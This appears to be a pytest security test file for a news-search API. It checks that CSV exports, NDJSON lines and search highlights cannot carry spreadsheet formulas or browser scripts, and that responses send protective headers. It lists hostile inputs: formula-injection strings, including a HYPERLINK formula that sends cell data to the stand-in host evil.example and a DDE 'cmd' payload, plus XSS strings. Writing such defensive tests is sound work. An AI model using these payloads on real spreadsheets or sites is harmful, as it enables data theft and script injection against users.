"""Articles whose publisher means harm: nothing in them is run by a browser, a spreadsheet or a reader of JSON lines."""

import csv
import io
import json

import pytest
import pytest_asyncio

from tests.contract.hostile.serving import service
from tests.contract.search_scenarios.served import document

pytestmark = pytest.mark.asyncio(loop_scope="module")
FORMULAS = [
    '=HYPERLINK("http://evil.example?"&A1,"Putin")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1",
    " =1+1", "\u200b=1+1", "＝1+1", "safe;=1+1", "safe\n=1+1", "'=1+1", "|calc", "\ufeff=1+1", "\u202e=1+1",
    'x;"=1+1;y', 'x\n"=1+1;y',
]  # fmt: skip
SCRIPTS = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "</mark><svg/onload=alert(1)>", '"><script>alert(1)</script>',
    "</script><script>alert(1)</script>", "<!--", "javascript:alert(1)", "&lt;script&gt;", "{{7*7}}", "\u2028\u2029</script>",
    "\ufeff<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
]  # fmt: skip
RUNS = ("=", "+", "-", "@", "＝")
UNSEEN = " \t\r\n\u200b\ufeff\u202e\u00a0"


def rows():
    for number, text in enumerate([*FORMULAS, *SCRIPTS]):
        yield {
            "id": f"bad-{number:02}", "language": "en", "headline": f"{text} hostile", "dek": text, "body": f"hostile {text}\n{text}",
            "published": [f"2024-01-{number + 1:02}", "day"], "publisher": [f"p{number}", text, "evil.example"],
            "actors": [[f"x:evil-{number}", text, "person", None, 0.5, "name"]], "cited": [[None, text, "speaker"]],
            "origin": [[f"o{number}", text]],
        }  # fmt: skip


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def telex(tmp_path_factory):
    async with service("tantivy", tmp_path_factory.mktemp("bad"), [document(row) for row in rows()]) as one:
        yield one


@pytest.mark.parametrize(
    "target",
    [
        "/v1/export?format=csv",
        "/v1/export?format=csv&q=hostile;%3D1%2B1;hostile",
        "/v1/export?format=csv&rows=actors",
        "/v1/export?format=csv&rows=cited",
        "/v1/export/facets/actor?format=csv",
        "/v1/export/facets/publisher?format=csv",
    ],
)
async def test_no_cell_of_an_export_is_a_formula_wherever_a_spreadsheet_cuts_it(telex, target):
    answer = await telex.get(target)
    assert answer.status == 200
    assert answer.headers["content-disposition"].startswith("attachment; ")
    assert answer.headers["x-content-type-options"] == "nosniff"
    text = answer.body.decode("utf-8-sig")
    seen = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert any("=1+1" in cell for cell in seen)
    assert not [cell for cell in seen if cell.startswith(("\t", "\r", "\n"))]
    for separator in (";", "\t", ","):
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator):
            for cell in row:
                number = (
                    cell.removeprefix("-").replace(".", "", 1).isascii()
                    and cell[1:].replace(".", "").isdigit()
                )
                assert number or not cell.lstrip(UNSEEN).startswith(RUNS), (separator, cell)


async def test_a_line_of_an_export_stays_one_line(telex):
    answer = await telex.get("/v1/export?format=ndjson")
    lines = answer.body.decode().removesuffix("\n").split("\n")
    assert len([json.loads(line) for line in lines]) == len(lines) == len(FORMULAS) + len(SCRIPTS) + 2


async def test_highlights_hold_no_tag_but_our_own(telex):
    hits = (await telex.get("/v1/articles?q=hostile+OR+script+OR+alert&size=100")).json["hits"]
    assert len(hits) == len(FORMULAS) + len(SCRIPTS)
    shown = [text for hit in hits for texts in hit["highlights"].values() for text in texts]
    assert any("&lt;" in text for text in shown)
    for text in shown:
        bare = text.replace("<mark>", "").replace("</mark>", "")
        assert not set(bare) & set("<>\"'")
        assert text.count("<mark>") == text.count("</mark>")


@pytest.mark.parametrize(
    "target",
    [
        "/v1/articles?q=hostile&facets=actor,publisher,cited,origin",
        "/v1/articles/bad-16",
        "/v1/articles/bad-16/versions",
        "/v1/stories/bad-16",
        "/v1/suggest?q=evil",
        "/v1/facets/actor",
        "/v1/articles?q=%3Cscript%3Ealert(1)%3C/script%3E",
        "/v1/articles?%3Cscript%3E=1",
        "/v1/articles?q=(%3Cscript%3E",
        "/v1/articles?language=%3Cscript%3E",
        "/%3Cscript%3Ealert(1)%3C/script%3E",
        "/v1/articles/%3Cscript%3E",
        "/v1/export?format=%3Cscript%3E",
    ],
)
async def test_no_answer_is_taken_for_a_page(telex, target):
    answer = await telex.get(target)
    assert answer.headers["content-type"].partition(";")[0] in {
        "application/json",
        "application/problem+json",
    }
    assert answer.headers["x-content-type-options"] == "nosniff"
    assert answer.headers["content-security-policy"].startswith("default-src 'none'")
    assert answer.headers["x-frame-options"] == "DENY"
    json.loads(answer.body)
